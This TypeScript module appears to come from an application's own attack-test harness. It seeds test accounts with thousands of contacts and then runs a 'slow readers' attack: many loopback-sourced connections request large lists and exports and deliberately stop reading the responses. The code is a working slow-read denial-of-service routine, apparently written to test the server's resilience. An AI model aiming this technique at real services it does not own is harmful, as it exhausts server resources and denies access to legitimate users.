import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { makeKeys } from '@/lib/auth/keys/make-keys';
import type { Attack, Target } from './attack';

const ACCOUNTS = 3;
const NETWORKS = 4;
/** Some eight megabytes of JSON: more than the system keeps for a connection that nobody reads from. */
const CONTACTS = 12_000;
const HOLD_MS = 3_000;
const PATIENCE_MS = 40_000;

type Keys = { publicKey: string; secretKey: string };

const accounts = new WeakMap<Target, Keys[]>();

async function makeAccount({ sql }: Target): Promise<Keys> {
  const { publicKey, secretKey, secretKeyHash } = makeKeys();
  const email = `slow${randomBytes(6).toString('hex')}@example.net`;
  const [user] = await sql<{ id: number }[]>`
    insert into users (email, password_hash, public_key, secret_key_hash, email_verified_at)
    values (${email}, '-', ${publicKey}, ${secretKeyHash}, now()) returning id`;
  const [type] = await sql<{ id: number }[]>`
    insert into contact_types (user_id, name) values (${user?.id ?? 0}, 'Readers') returning id`;
  await sql`
    insert into contacts (user_id, contact_type_id, email, first_name, last_name, city)
    select ${user?.id ?? 0}, ${type?.id ?? 0}, 'reader' || n || '@example.net', 'Reader', 'Number ' || n, 'Bergen'
    from generate_series(1, ${CONTACTS}) as n`;
  return { publicKey, secretKey };
}

/** A client that asks, takes the first bytes of the answer, and then reads no more. */
class SlowReader {
  status = '';
  isCut = false;
  private readonly socket: Socket;

  constructor(origin: string, from: string | undefined, requests: string) {
    const { hostname: host, port } = new URL(origin);
    this.socket = connect({ host, port: Number(port), ...(from && { localAddress: from }) }, () =>
      this.socket.write(requests),
    );
    this.socket.once('data', (data) => {
      this.socket.pause();
      this.status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'none';
    });
    this.socket.on('error', () => {});
    this.socket.once('close', () => {
      this.isCut = true;
    });
  }

  leave(): void {
    this.socket.destroy();
  }
}

const get = (path: string, host: string, keys?: Keys) =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${
    keys ? `PublicKey: ${keys.publicKey}\r\nSecretKey: ${keys.secretKey}\r\n` : ''
  }\r\n`;

/** Where the attack comes from: some networks of this machine's own. Linux alone has all of 127/8. */
const networkAt = (number: number) =>
  process.platform === 'linux' ? `127.66.${number % NETWORKS}.1` : undefined;

const LISTS = ['contacts/list', 'contacts/list?sort=last_name', 'contacts/export'];

export const slowReaders: Attack = {
  name: 'slow-readers',
  summary: 'Asks for long lists and pages over many connections, and reads none of them to the end.',

  async prepare(target) {
    const made = [];
    for (let count = 0; count < ACCOUNTS; count += 1) made.push(await makeAccount(target));
    accounts.set(target, made);
  },

  async run(target, { scale, signal }) {
    const { url } = target.server;
    const { host } = new URL(url);
    const keys = accounts.get(target) ?? [];
    const list = (number: number) =>
      get(`/api/email/${LISTS[number % LISTS.length]}`, host, keys[number % keys.length]);
    const pages = get('/', host).repeat(scale === 'full' ? 20 : 4);
    const count = scale === 'full' ? 240 : 48;
    const open = (number: number) =>
      new SlowReader(url, networkAt(number), number % 6 === 5 ? pages : list(number));
    const tally: Record<string, number> = {};
    const note = ({ status }: SlowReader) => {
      tally[status || 'no'] = (tally[status || 'no'] ?? 0) + 1;
    };

    const readers = Array.from({ length: count }, (_, number) => open(number));
    const wait = (ms: number) => pause(ms, undefined, { signal }).catch(() => {});
    const end = Date.now() + PATIENCE_MS;
    while (!signal.aborted && Date.now() < end) {
      await wait(500);
      if (scale === 'full')
        for (const [number, reader] of readers.entries())
          if (reader.isCut) {
            note(reader);
            readers[number] = open(number);
          }
      if (scale === 'short' && readers.every(({ status, isCut }) => status !== '' || isCut)) {
        await wait(HOLD_MS);
        break;
      }
    }
    for (const reader of readers) {
      note(reader);
      reader.leave();
    }
    const parts = Object.entries(tally).map(([status, times]) => `${times} × ${status}`);
    return `answers that began: ${parts.join(', ')}`;
  },
};
